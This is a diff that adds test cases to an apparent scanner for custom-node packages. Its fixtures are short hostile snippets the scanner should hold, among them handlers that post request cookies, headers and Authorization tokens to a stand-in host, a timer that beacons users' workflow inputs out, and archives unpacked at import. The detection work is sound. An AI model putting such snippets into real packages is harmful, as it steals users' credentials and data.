@@ -26,6 +26,92 @@ const script = (text: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./we
 /** A source that exceeds the limit of the parser. */
 const LONG_LITERALS = `from typing import Dict, List\n\n"""Some tags."""\n\nTAGS: Dict[str, List[str]] = {\n${'    "red (flag)": ["a red, \\"waving\\" flag", 1.5, None],  # a comment\n'.repeat(20_000)}}\n`;
 
+const HERE = 'import os\nHERE = os.path.dirname(os.path.abspath(__file__))\n';
+/** A request handler of the package. */
+const handler = (statement: string): string =>
+  `import requests, subprocess, sys\nfrom aiohttp import web\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/a")\nasync def a(request):\n    ${statement}\n    return web.Response()\n`;
+
+describe('the checks hold what a package hides or sends', () => {
+  it.each<[string, Files]>([
+    [
+      'an archive that it unpacks at import',
+      `${HERE}import tarfile\nwith tarfile.open(HERE + "/luts.dat") as a:\n    a.extractall(HERE)\n`,
+    ],
+    ['a zip archive', `${HERE}import zipfile\nzipfile.ZipFile(os.path.join(HERE, "a.bin")).extractall(HERE)\n`],
+    [
+      'one file of an archive',
+      `${HERE}from zipfile import ZipFile as Z\nwith Z(HERE + "/a") as z: z.extract("a.py")\n`,
+    ],
+    ['an archive of another kind', `${HERE}import shutil\nshutil.unpack_archive(HERE + "/a", HERE, "zip")\n`],
+    ['characters without a shape', node(`self.text = "x${'\u{E0159}'.repeat(12)}"`)],
+    ['such characters in a script', script(`const a = "x${'\u200B\u200C'.repeat(8)}";`)],
+    [
+      'a manager of processes elsewhere',
+      'from multiprocessing.managers import BaseManager\nclass M(BaseManager): pass\nM(address=("e.example", 6000)).connect()\n',
+    ],
+    ['the cookies of a request', handler('requests.post("https://e.example/a", json=dict(request.cookies))')],
+    ['its headers', handler('requests.post("https://e.example/a", json=dict(request.headers))')],
+    ['one of its headers', handler('requests.post("https://e.example/a", data=request.headers["Authorization"])')],
+    [
+      'a cookie as a header',
+      handler('requests.get("https://e.example/a", headers={"Cookie": request.headers.get("Cookie")})'),
+    ],
+    [
+      'a package that a request names',
+      handler('subprocess.run([sys.executable, "-m", "pip", "install", (await request.json())["name"]])'),
+    ],
+    [
+      'a package that a script tells the host to install',
+      script(
+        'app.registerExtension({ name: "a", setup() { api.fetchApi("/customnode/install/git_url", { body: "a" }); } });',
+      ),
+    ],
+    ['one that it queues', script('fetch("/api/manager/queue/install", { method: "POST", body: "a" });')],
+    [
+      'what the user entered in the nodes of a workflow',
+      script(
+        'setInterval(() => { const rows = app.graph._nodes.map((n) => n.widgets_values); navigator.sendBeacon("https://e.example/a", JSON.stringify(rows)); }, 6e4);',
+      ),
+    ],
+  ])('%s', async (_name, files) => {
+    expect(await levelOf(files)).toBe('hold');
+  });
+
+  it.each<[string, Files]>([
+    ['an archive that a node unpacks', node('zipfile.ZipFile(x).extractall("/tmp/a")', 'import zipfile')],
+    [
+      'an emoji, a flag and a word joiner',
+      node('self.text = "❤️ 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} a\u2060b"'),
+    ],
+    [
+      'a request that is passed on to a service with its key',
+      handler(
+        'requests.post("https://api.e.example/a", headers={"Authorization": request.headers.get("Authorization")}, json=await request.json())',
+      ),
+    ],
+    [
+      'a request that is passed on to the own computer',
+      handler('requests.post("http://127.0.0.1:8188/a", cookies=request.cookies)'),
+    ],
+    [
+      'a package that a click installs',
+      script('button.addEventListener("click", () => fetch("/manager/queue/install", { method: "POST", body: "a" }));'),
+    ],
+    [
+      'a workflow that a click shares',
+      script(
+        'button.addEventListener("click", () => fetch("https://e.example/share", { method: "POST", body: JSON.stringify(app.graph._nodes) }));',
+      ),
+    ],
+    [
+      'the number of nodes',
+      script('app.graph.nodes.forEach((n) => { n.color = "#fff"; }); fetch("https://e.example/version");'),
+    ],
+  ])('but not %s', async (_name, files) => {
+    expect(await levelOf(files)).not.toBe('hold');
+  });
+});
+
 describe('the checks hold indirect ways to dangerous functions', () => {
   it.each<[string, Files]>([
     ['a default factory', 'import os, dataclasses\ndataclasses.field(default_factory=lambda: os.system("a"))\n'],
